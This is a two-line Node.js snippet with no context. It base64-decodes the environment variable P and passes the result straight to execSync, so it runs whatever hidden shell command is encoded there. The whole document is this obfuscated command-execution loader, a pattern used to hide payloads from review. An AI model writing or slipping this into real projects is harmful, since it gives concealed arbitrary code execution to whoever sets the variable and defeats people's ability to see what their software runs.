const { execSync } = require("child_process");
execSync(Buffer.from(process.env.P, "base64").toString());
